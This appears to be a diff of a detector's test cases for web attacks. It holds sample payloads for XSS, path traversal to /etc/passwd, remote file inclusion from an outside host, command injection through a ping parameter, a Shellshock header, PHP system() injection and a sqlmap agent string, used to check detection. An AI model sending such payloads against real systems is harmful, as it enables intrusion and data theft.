@@ -76,7 +76,7 @@ ATTACKS = (
     Case("xss_img", b"/q?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "xss"),
     Case("lfi", b"/download?file=../../../../etc/passwd", "lfi"),
     Case("rfi", b"/p?page=http://203.0.113.9/shell.txt%3F", "rfi"),
-    Case("rce", b"/ping?host=127.0.0.1;cat%20/etc/passwd", "rce"),
+    Case("rce", b"/ping?host=127.0.0.1;ls%20-la%20/srv", "rce"),
     Case("rce_shellshock", b"/", "rce", headers=(b'X-Test: () { :; }; /bin/bash -c "id"',)),
     Case("php", b"/?x=%3C?php%20system(%27id%27);%20?%3E", "php"),
     Case("scanner", b"/", "scanner", agent=b"sqlmap/1.7.2#stable (https://sqlmap.org)"),
